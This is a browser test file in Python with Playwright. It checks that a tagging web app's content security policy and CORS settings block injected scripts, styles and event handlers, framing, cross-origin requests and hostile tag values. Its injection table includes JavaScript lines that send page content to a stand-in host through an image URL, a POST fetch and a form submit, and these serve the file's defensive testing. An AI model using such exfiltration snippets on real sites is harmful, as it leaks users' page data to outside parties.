"""Scripts and pages of strangers, in a real browser: what the page's rules keep out.

That questions, tags and answers are shown as text is tested in test_page.py. Here something did get
into the page, or another page tries to use the API.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.system.browser import Visit
from tests.system.server import Server

NO_PAGE = "<!doctype html><title>stranger</title><p id=out>waiting</p>"
WATCHED = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
  event => window.violations.push(event.effectiveDirective));
"""
INJECTIONS: dict[str, tuple[str, str]] = {
    "a script": (
        "require-trusted-types-for",
        """
      const script = document.createElement("script");
      script.append("window.ran = true");
      document.body.append(script);
    """,
    ),
    "a script of another host": (
        "require-trusted-types-for",
        """
      const script = document.createElement("script");
      script.src = "STRANGER/script.js";
      document.body.append(script);
    """,
    ),
    "a handler of an event": (
        "require-trusted-types-for",
        """
      const image = document.createElement("img");
      image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
      image.setAttribute("onload", "window.ran = true");
      document.body.append(image);
    """,
    ),
    "a style": (
        "style-src-elem",
        """
      const style = document.createElement("style");
      style.append("body { display: none }");
      document.body.append(style);
    """,
    ),
    "an image of another host": (
        "img-src",
        """
      const image = document.createElement("img");
      image.src = "STRANGER/?stolen=" + encodeURIComponent(document.title);
      document.body.append(image);
    """,
    ),
    "a request to another host": (
        "connect-src",
        """
      fetch("STRANGER/", { method: "POST", body: document.title }).catch(() => {});
    """,
    ),
    "a form of another host": (
        "form-action",
        """
      const form = document.createElement("form");
      form.action = "STRANGER/";
      document.body.append(form);
      form.submit();
    """,
    ),
    "another base of the addresses": (
        "base-uri",
        """
      const base = document.createElement("base");
      base.href = "STRANGER/";
      document.head.append(base);
    """,
    ),
}
"""Ways to run a script, to hide the page or to send its content away, with the rule against it."""
ASK = """async url => {
  try {
    const answer = await fetch(url, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ text: "How do I merge two dictionaries in Python?" }),
    });
    return (await answer.json()).predicted_tags[0];
  } catch (error) { return error.name; }
}"""


class Stranger:
    """Another site on this machine, which counts the requests that it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        site = self

        class Site(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.requests.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(NO_PAGE.encode())

            do_POST = do_GET  # noqa: N815 (the name that the server looks for)

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        """Stop the server."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def stranger() -> Iterator[Stranger]:
    site = Stranger()
    yield site
    site.stop()


@pytest.fixture(scope="module")
def open_to_stranger(
    stranger: Stranger, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    """A server whose operator has allowed the other site."""
    server = Server(tmp_path_factory.mktemp("open"), ETIQUETTE_CORS_ORIGINS=stranger.url)
    yield server
    server.stop()


def opened(browser: Browser, url: str) -> Page:
    page = Visit(browser).page
    page.add_init_script(WATCHED)
    page.goto(url)
    return page


@pytest.mark.parametrize("kind", INJECTIONS)
def test_what_was_injected_does_not_work(
    browser: Browser, server: Server, stranger: Stranger, kind: str
) -> None:
    rule, script = INJECTIONS[kind]
    page = opened(browser, server.url)
    stranger.requests.clear()
    page.evaluate(f"() => {{ try {{ {script.replace('STRANGER', stranger.url)} }} catch {{}} }}")
    page.wait_for_function("rule => window.violations.includes(rule)", arg=rule, timeout=120_000)
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.baseURI").startswith(server.url)
    # The page's own requests still go to its server.
    assert page.evaluate(ASK, "predict") == "python"
    assert stranger.requests == []
    page.context.close()


def test_a_page_of_another_origin_cannot_ask(
    browser: Browser, server: Server, stranger: Stranger
) -> None:
    page = opened(browser, stranger.url)
    start = server.logged()
    assert page.evaluate(ASK, f"{server.url}/predict") == "TypeError"
    assert server.lines(start) == []  # not even the preflight was allowed
    page.context.close()


def test_a_page_of_another_origin_cannot_read_what_needs_no_preflight(
    browser: Browser, server: Server, stranger: Stranger
) -> None:
    page = opened(browser, stranger.url)
    read = "url => fetch(url).then(answer => answer.text(), error => error.name)"
    assert page.evaluate(read, f"{server.url}/tags") == "TypeError"
    page.context.close()


def test_a_page_of_another_origin_can_ask_if_the_operator_allowed_it(
    browser: Browser, open_to_stranger: Server, stranger: Stranger
) -> None:
    page = opened(browser, stranger.url)
    assert page.evaluate(ASK, f"{open_to_stranger.url}/predict") == "python"
    page.context.close()
    # The same page under another name of this machine is another origin.
    other = opened(browser, stranger.url.replace("127.0.0.1", "localhost"))
    assert other.evaluate(ASK, f"{open_to_stranger.url}/predict") == "TypeError"
    other.context.close()


def test_no_other_page_can_frame_the_page(
    browser: Browser, server: Server, stranger: Stranger
) -> None:
    page = opened(browser, stranger.url)
    page.evaluate(
        """url => new Promise(done => {
          const frame = document.createElement("iframe");
          frame.addEventListener("load", done);
          frame.src = url;
          document.body.append(frame);
        })""",
        server.url,
    )
    (_, framed) = page.frames
    assert framed.url.startswith("chrome-error:")
    page.context.close()


def test_a_hostile_tag_is_refused_where_it_comes_in(server: Server, tmp_path: Path) -> None:
    for tag in ("<script>", "a b", '"x"', "x\n", "&lt;", "a,b", "x" * 36, ""):
        body = {"prediction_id": "3f0c2f5e-0f0e-4f53-9f6a-0d8f6d1c2b3a", "final_tags": [tag]}
        start = server.logged()
        assert server.client.post("/feedback", json=body).status_code == 422, tag
        assert server.lines(start) == []
